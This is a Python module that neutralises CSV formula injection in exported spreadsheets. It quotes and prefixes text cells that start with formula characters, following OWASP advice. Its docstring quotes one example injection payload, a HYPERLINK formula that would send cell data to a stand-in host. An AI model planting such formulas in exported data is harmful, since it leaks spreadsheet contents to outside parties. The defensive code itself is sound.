"""CSV that a spreadsheet opens as data: every CSV and FOCUS file gpuledger writes goes through here.

A spreadsheet evaluates a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula, so a team, user, host, device or run name such as
``=HYPERLINK("http://x/"&A1,"gpu")`` would run in the reader's spreadsheet. Following OWASP's
CSV-injection advice, such a text cell is written with a single quote in front and always quoted
(``"'=HYPERLINK(...)"``); the quote shows, and the cell stays text.

Numbers stay numbers, decided by type rather than by the look of the text: a Python ``int``,
``float`` or ``Decimal`` is written as it is in any column, and a string in one of the ``numeric``
columns (money as an exact decimal string, ``-1.50``) is left alone when it is a plain number. Every
other string, in any column, is checked, so ``-2+3`` in a numeric column is neutralised too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Sequence
from decimal import Decimal
from typing import Any, TextIO

__all__ = ["FORMULA_START", "SafeCsvWriter", "neutralise", "numeric_columns"]

FORMULA_START = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)  # ASCII digits only
_PLAIN = (int, float, Decimal)  # classes the fast path takes as they are (str is checked)
_NEEDS_QUOTES = re.compile(r'[,"\r\n]')  # what makes csv's QUOTE_MINIMAL quote a field


def neutralise(value: Any, numeric: bool = False) -> tuple[Any, bool]:
    """(the cell to write, whether it was neutralised). None is an empty cell."""
    if value is None:
        return "", False
    if isinstance(value, int | float | Decimal):
        return value, False
    text = value if isinstance(value, str) else str(value)
    if text[:1] in FORMULA_START and not (numeric and _NUMBER.fullmatch(text)):
        return "'" + text, True
    return text, False


def numeric_columns(columns: Iterable[Any], text_units: Collection[str] = ("text", "time", "")) -> frozenset[str]:
    """The names of the columns (objects with ``name`` and ``unit``) whose unit is not text."""
    return frozenset(c.name for c in columns if c.unit not in text_units)


def _quoted(cell: Any) -> str:
    return '"' + str(cell).replace('"', '""') + '"'


def _minimal(cell: Any) -> str:
    text = str(cell)
    return _quoted(text) if _NEEDS_QUOTES.search(text) else text


class SafeCsvWriter:
    """A ``csv.writer`` (``,``, ``"``, ``\\n`` line ends) for a fixed list of columns. Rows are
    sequences in the header's order; the header's own cells are text. A row with a neutralised cell
    is formatted here, so that cell can be quoted whatever it holds; every other row goes to the
    csv module as before, so clean output is byte for byte what it was."""

    def __init__(self, out: TextIO, header: Sequence[str], numeric: Collection[str] = ()) -> None:
        self._out = out
        self._csv = csv.writer(out, lineterminator="\n")
        self._numeric = [name in numeric for name in header]
        self._write([str(h) for h in header], [False] * len(header))

    def writerow(self, row: Sequence[Any]) -> None:
        self._write(row, self._numeric)

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self._write(row, self._numeric)

    def _write(self, row: Sequence[Any], numeric: Sequence[bool]) -> None:
        cells = ["" if v is None else v for v in row]
        forced = [
            i
            for i, v in enumerate(cells)
            if (v[:1] in FORMULA_START if v.__class__ is str else v.__class__ not in _PLAIN)
        ]
        if forced:  # rare: a text cell that starts like a formula, or a value of another type
            forced = [i for i in forced if self._neutralise(cells, i, numeric[i])]
        if not forced:
            self._csv.writerow(cells)
            return
        line = ",".join(_quoted(c) if i in forced else _minimal(c) for i, c in enumerate(cells))
        self._out.write(line + "\n")

    @staticmethod
    def _neutralise(cells: list[Any], i: int, numeric: bool) -> bool:
        cells[i], changed = neutralise(cells[i], numeric)
        return changed
